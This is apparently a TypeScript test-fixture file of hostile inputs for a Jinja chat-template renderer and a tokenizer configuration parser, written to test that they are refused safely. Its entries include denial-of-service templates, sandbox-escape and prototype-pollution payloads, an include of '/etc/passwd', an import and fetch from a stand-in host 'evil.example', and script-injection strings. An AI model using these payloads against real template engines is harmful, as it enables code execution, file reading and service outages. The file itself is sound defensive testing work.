import { type HostileText, hostileTexts } from './hostile-input.ts';

/** Programs in Jinja. Each ends with a text or a sentence, in time, and reaches nothing. */
export const CHAT_TEMPLATES: readonly HostileText[] = hostileTexts({
	'a loop of a million': '{% for i in range(1000000) %}x{% endfor %}',
	'loops in loops': `${'{% for i in range(100) %}'.repeat(6)}x${'{% endfor %}'.repeat(6)}`,
	'a range beyond all': '{{ range(1e308) }}',
	'a range of nothing': '{{ range(0, 10, 0) }}',
	'a text that doubles': `{% set ns = namespace(a='xxxxxxxx') %}${'{% set ns.a = ns.a ~ ns.a %}'.repeat(40)}{{ ns.a }}`,
	'a text that is repeated': "{{ 'x' * 1000000000 }}",
	'a list that doubles': `{% set ns = namespace(a=[1]) %}${'{% set ns.a = ns.a + ns.a %}'.repeat(40)}`,
	'a replacement that grows': `{% set ns = namespace(a='x' ) %}${"{% set ns.a = ns.a | replace('x', 'xxxxxxxxxx') %}".repeat(12)}{{ ns.a }}`,
	'a macro that calls itself': '{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}',
	'macros that call each other':
		'{% macro a(n) %}{{ b(n) }}{% endmacro %}{% macro b(n) %}{{ a(n) }}{% endmacro %}{{ a(1) }}',
	'a thousand brackets': `{{ ${'('.repeat(1_000)}1${')'.repeat(1_000)} }}`,
	'a hundred thousand brackets': `{{ ${'('.repeat(49_000)}1${')'.repeat(49_000)} }}`,
	'ifs in ifs': `${'{% if true %}'.repeat(2_000)}x${'{% endif %}'.repeat(2_000)}`,
	'the constructor of a text': "{{ ''.constructor.constructor('window.ran=1')() }}",
	'the constructor of a function': "{{ range.constructor('globalThis.ran=1')() }}",
	'the constructor of a list': '{{ [].constructor.prototype.polluted }}',
	'the classes of Python': "{{ ''.__class__.__mro__[1].__subclasses__() }}",
	'the prototype by key': "{{ messages['__proto__']['polluted'] }}{{ {}['constructor'] }}",
	'a prototype that is set': "{% set ns = namespace() %}{% set ns.__proto__ = {'polluted': 1} %}",
	'the global object': '{{ globalThis }}{{ window }}{{ self }}{{ process }}',
	'an import': "{% import 'https://evil.example/x' as x %}{{ x }}",
	'an include': "{% include '/etc/passwd' %}",
	'a fetch': "{{ fetch('https://evil.example') }}{{ importScripts('x') }}",
	'an exception of HTML': "{{ raise_exception('<img src=x onerror=window.ran=1>') }}",
	'an exception of a megabyte': "{{ raise_exception('x' * 1000000) }}",
	HTML: '<script>window.ran=1</script>{{ messages[0].content }}',
	'a tag that never ends': '{% if x',
	'an expression that never ends': '{{ ',
	'a raw block that never ends': '{% raw %}{{ x }}',
	'marks of training that do not match': '{% endgeneration %}{% generation %}{% generation %}x',
	'marks of training in the text': '\ue000retort-trained\ue001x\ue000/retort-trained\ue001',
	'a date': "{{ strftime_now('%Y %c %s %n') }}",
	'spaces without end': ' '.repeat(99_000),
	'a filter that is none': "{{ 'x' | eval }}{{ 'x' | attr('constructor') }}"
});

/** `tokenizer_config.json` that is none, or too much: refused with a sentence. */
export const TOKENIZER_CONFIGS: readonly HostileText[] = hostileTexts({
	nothing: '',
	'no JSON': '{',
	'a list': '[]',
	'no template': '{}',
	'a template that is a number': '{"chat_template":1}',
	'an empty template': '{"chat_template":""}',
	'a template beyond the limit': JSON.stringify({ chat_template: 'x'.repeat(100_001) }),
	'no templates': '{"chat_template":[]}',
	'too many templates': JSON.stringify({
		chat_template: Array.from({ length: 51 }, (_, n) => ({ name: String(n), template: 'x' }))
	}),
	'a template in the prototype': '{"__proto__":{"chat_template":"x"}}',
	'a name beyond the limit': JSON.stringify({
		chat_template: [{ name: 'n'.repeat(101), template: 'x' }]
	}),
	'a hundred thousand levels': `{"chat_template":${'['.repeat(100_000)}${']'.repeat(100_000)}}`
});
